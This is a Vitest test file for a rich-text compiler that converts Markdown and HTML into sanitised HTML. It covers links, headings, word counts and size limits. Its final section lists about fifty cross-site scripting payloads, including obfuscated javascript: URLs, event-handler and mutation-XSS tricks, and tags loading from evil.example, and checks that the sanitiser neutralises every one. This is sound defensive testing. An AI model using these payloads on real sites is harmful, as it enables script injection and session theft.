import { describe, expect, it } from 'vitest';
import { compileRichText } from './rich-text';

const html = (written: string | string[]): string => compileRichText(written).html((href) => ({ href }));

/** Paragraphs as HTML, their pull quotes in capitals. */
const pulled = (paragraphs: string[]): string =>
  compileRichText(paragraphs.flatMap((one) => [one, ''])).html(
    (href) => ({ href }),
    (text) => text.toUpperCase(),
  );

describe('compileRichText', () => {
  it('compiles Markdown, lines of a list joined', () => {
    expect(html(['**Bold** words', '', '- one', '- two'])).toBe(
      '<p><strong>Bold</strong> words</p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>',
    );
  });

  it('marks a list of nothing but links to places on its page', () => {
    const row = '<ul data-jumps>\n<li><a href="#a">A</a></li>\n<li><a href="#b">B</a></li>\n</ul>';
    expect(html(['- [A](#a)', '- [B](#b)'])).toBe(row.replace('data-jumps', 'data-jumps=""'));
    expect(html(['- [A](#a)', '', '- [B](#b)'])).toContain('<ul>');
    expect(html(['- [A](#a)', '- [B](/b)'])).toContain('<ul>');
    expect(html(['- [A](#a)', '- see [B](#b)'])).toContain('<ul>');
    expect(html(['- [A](#a)', '- B'])).toContain('<ul>');
    expect(html('<ul data-jumps><li>A</li></ul>')).toContain('<ul>');
  });

  it('repeats the first thing that is marked in a paragraph three paragraphs on, typeset', () => {
    const written = pulled(['B <mark lang="en">"is *said*"</mark> <mark>x</mark>.', 'C.', 'D.', 'E.']);
    expect(written).toContain('<p>B <mark lang="en">"is <em>said</em>"</mark>');
    expect(written).toContain('<p>C.</p>');
    expect(written).toContain('<p data-pull="&#x22;IS SAID&#x22;">E.</p>');
  });

  it('repeats it before where too few follow, nearer in a short text, and not beside itself', () => {
    expect(pulled(['A.', 'B.', 'C.', '<mark>c</mark>'])).toContain('<p data-pull="C">A.</p>');
    expect(pulled(['<mark>a</mark>', 'B.', 'C.'])).toContain('<p data-pull="A">C.</p>');
    expect(pulled(['A.', '<mark>b</mark>', '- <mark>c</mark>'])).not.toContain('data-pull');
  });

  it('takes nothing that only looks like a marked paragraph', () => {
    const title = '<p><mark> onmouseover=alert(1) x=</mark>';
    expect(html(`- <a href="/" title="${title}">y</a>`)).toContain(`<a href="/" title="${title}">y</a>`);
  });

  it('keeps simple HTML', () => {
    expect(html('A<br>B <sup>2</sup> <a href="/x" title="t">y</a>')).toBe(
      '<p>A<br>B <sup>2</sup> <a href="/x" title="t">y</a></p>',
    );
  });

  it('makes nothing of nothing', () => {
    expect(html('')).toBe('');
    expect(html(['', ' '])).toBe('');
  });

  it('lists links as they were written, and lets the caller write each of them', () => {
    const content = compileRichText(
      '[a](/b) [c](whatsapp:Hello%20there) <a href="https://x.example/a%20b?c=%2525">d</a>',
    );
    expect(content.links).toEqual(['/b', 'whatsapp:Hello there', 'https://x.example/a%20b?c=%2525']);
    const written = content.html((href) => ({
      href: `${href}!`,
      target: '_blank',
      rel: 'noopener noreferrer',
    }));
    expect(written).toContain('<a href="/b!" target="_blank" rel="noopener noreferrer">a</a>');
    expect(written).toContain('href="https://x.example/a%20b?c=%2525!"');
  });

  it('lists headings with their levels', () => {
    expect(compileRichText('# A\n\n### B *c*\n\n<h5>d</h5>\n\nE\n---').headings).toEqual([
      { level: 1, text: 'A' },
      { level: 3, text: 'B c' },
      { level: 5, text: 'd' },
      { level: 2, text: 'E' },
    ]);
  });

  it('names elements that it leaves out', () => {
    expect(compileRichText('![a](b.png) <video></video> <p>x</p>').forbidden).toEqual([
      { element: 'img', src: 'b.png' },
      { element: 'video' },
    ]);
  });

  it.each([
    ['One two, three.', 3],
    ["It's a half-day’s 2 talks – no?", 6],
    ['- one\n- two\n\n`three`<br>four', 4],
    ['नमस्कार मंडळी', 2],
    ['… — !', 0],
    ['', 0],
  ])('counts the words of %j', (text, count) => {
    expect(compileRichText(text).words()).toBe(count);
  });

  it('counts words that stand in different parts as different words', () => {
    expect(compileRichText('<ul><li>one</li><li>two</li></ul>').words()).toBe(2);
  });

  it.each([
    ['See [a](/b c) and _[d](/e  f g)_', ['/b c', '/e  f g']],
    ['See [a](/b), [c](</d e>) and (f g)', []],
    ['`[a](/b c)` and [a] (/b c)', []],
  ])('finds addresses with a space in %j', (text, spaced) => {
    expect(compileRichText(text).spaced).toEqual(spaced);
  });

  it('leaves a link alone that leads nowhere, or cannot be decoded', () => {
    expect(compileRichText('<a title="x">y</a>').links).toEqual([]);
    expect(html('<a title="x">y</a>')).toBe('<p><a title="x">y</a></p>');
    expect(compileRichText('[y](https://bücher.de/a%20ü)').links).toEqual(['https://bücher.de/a%20ü']);
    expect(compileRichText('[y](mailto:a@b.in?subject=Q%26A%20100%25)').links).toEqual([
      'mailto:a@b.in?subject=Q%26A%20100%25',
    ]);
    expect(compileRichText('<a href="/%E0%A4">y</a>').links).toEqual(['/%E0%A4']);
    expect(compileRichText('<a href="http://a.in/%20">y</a>').links).toEqual(['http://a.in/%20']);
    expect(compileRichText('<a href="mailto:a@b.in?body=https:%20x">y</a>').links).toEqual([
      'mailto:a@b.in?body=https:%20x',
    ]);
    expect(compileRichText('<h2 href="/x">y</h2>').links).toEqual([]);
  });

  it('names the text that does not say its language', () => {
    const text = 'He says नमस्कार, <span lang="mr">मंडळी</span> and **जय**.';
    expect(compileRichText(text).unmarked).toEqual(['He says नमस्कार, ', 'जय']);
    expect(compileRichText('Good day').unmarked).toEqual([]);
  });

  it('refuses what is too long or nested too deep', () => {
    expect(compileRichText('a'.repeat(60_001)).fault).toBe('too-long');
    expect(compileRichText('> '.repeat(61) + 'a').fault).toBe('too-deep');
    expect(compileRichText('<b>'.repeat(20_000)).fault).toBe('too-deep');
    expect(compileRichText('> '.repeat(20) + 'a').fault).toBeUndefined();
    expect(compileRichText('a'.repeat(60_000)).fault).toBeUndefined();
    const { links, headings, words } = compileRichText('a'.repeat(60_001));
    expect([links, headings, words(), html('a'.repeat(60_001))]).toEqual([[], [], 0, '']);
  });
});

const payloads = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](java&#10;script:alert(1))',
  '[x](java&Tab;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript://%0aalert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href=/x onclick=alert(1)>x</a>',
  '<a href="/x" style="background:url(javascript:alert(1))">x</a>',
  '<p onmouseover="alert(1)" style="position:fixed">x</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import "https://evil.example";</style>',
  '<link rel=stylesheet href="https://evil.example">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>x</details>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '`<script>`\n\n<b\n\nonclick=alert(1)>x',
  '<video><source onerror=alert(1)></video>',
  '<xss onpointerenter=alert(1) id=document name=cookie>x</xss>',
];

/** An opening tag as it is written here: every value between quotation marks. */
const tag = /<([a-z][^\s/>]*)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*\/?>/gi;

/** The opening tags of some HTML, with all of their attributes. */
function tagsOf(written: string): { name: string; attributes: Record<string, string> }[] {
  return [...written.matchAll(tag)].map(([, name = '', rest = '']) => ({
    name: name.toLowerCase(),
    attributes: Object.fromEntries(
      [...rest.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => [key, value]),
    ),
  }));
}

const known = [
  ...'p br hr strong b em i u s del small sub sup mark abbr cite q span a ul ol li dl dt dd'.split(' '),
  ...'blockquote pre code h2 h3 h4 h5 h6 table thead tbody tr th td caption'.split(' '),
];

describe('The compiled HTML', () => {
  it.each(payloads)('holds nothing that runs, for %s', (payload) => {
    for (const text of [payload, `Words ${payload} words`, `- ${payload}`, `> **${payload}**`]) {
      const written = html(text);
      const tags = tagsOf(written);
      expect(written.replaceAll(tag, '').replaceAll(/<\/[a-z0-9]+>/g, '')).not.toContain('<');
      for (const { name, attributes } of tags) {
        expect(known).toContain(name);
        expect(['href', 'title', 'scope', 'start', 'lang']).toEqual(
          expect.arrayContaining(Object.keys(attributes)),
        );
        expect(attributes['href'] ?? '').toMatch(/^(?:https?:|mailto:|tel:|whatsapp:|[^:]*$)/);
      }
    }
  });
});
